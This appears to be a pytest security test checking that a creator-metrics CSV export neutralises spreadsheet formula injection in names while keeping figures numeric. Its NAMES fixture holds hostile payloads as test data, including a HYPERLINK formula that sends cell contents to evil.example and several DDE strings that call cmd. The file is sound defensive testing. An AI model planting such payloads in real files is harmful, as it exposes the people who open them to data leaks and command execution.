"""CSV formula injection: a creator's name that a spreadsheet would run as a formula (OWASP "CSV
Injection": a cell starting with =, +, -, @, tab or carriage return) is exported as text, with a
leading apostrophe; the figures stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

# What an attacker (a creator filling in their own name, a CSV from an agency) would try.
NAMES = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "plain": "Maya Stone",
}
RANGE = {"from": "2026-03-01", "to": "2026-03-31", "as_of": "2026-07-01"}


@pytest.fixture(scope="module")
def exported(hostile):
    for n, (handle, name) in enumerate(NAMES.items()):
        created = hostile.call(
            "POST",
            "/api/creators",
            json={
                "name": name,
                "handle": f"csv-{handle}",
                "discount": {"code": f"CSV{n}X", "percent_off": "10"},
            },
        )
        assert created.status_code == 201, created.text
    # A fee of 100.00 and no sales: net revenue 0, so ROI = (0 - 100) / 100 = -1 (a negative number).
    fee = hostile.call(
        "POST",
        "/api/creators/csv-plain/spend",
        json={"kind": "fee", "date": "2026-03-02", "amount": "100.00"},
    )
    assert fee.status_code == 201, fee.text
    resp = hostile.call("GET", "/api/metrics/creators.csv", params=RANGE)
    assert resp.status_code == 200 and resp.headers["Content-Type"].startswith("text/csv")
    return {row["handle"]: row for row in csv.DictReader(io.StringIO(resp.text))}


def _stored_name(hostile, handle: str) -> str:
    return hostile.call("GET", f"/api/creators/csv-{handle}").json()["name"]


@pytest.mark.parametrize("handle", ["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_name_a_spreadsheet_would_run_is_exported_as_text(hostile, exported, handle):
    name = _stored_name(hostile, handle)  # as the app keeps it (the API trims surrounding whitespace)
    cell = exported[f"csv-{handle}"]["name"]
    assert cell == "'" + name  # the apostrophe makes the spreadsheet show the text, never evaluate it
    assert cell[0] not in "=+-@\t\r"


def test_other_names_and_every_figure_are_unchanged(hostile, exported):
    plain = exported["csv-plain"]
    assert plain["name"] == "Maya Stone"
    assert Decimal(plain["spend"]) == Decimal("100.00")
    assert Decimal(plain["roi"]) == Decimal("-1")  # (0 - 100) / 100, worked by hand
    assert plain["roi"].startswith("-")  # a number, not escaped text
    assert plain["roas"] == "0" or Decimal(plain["roas"]) == 0  # 0 / 100
    assert exported["csv-eq"]["roas"] == ""  # no spend: undefined stays empty
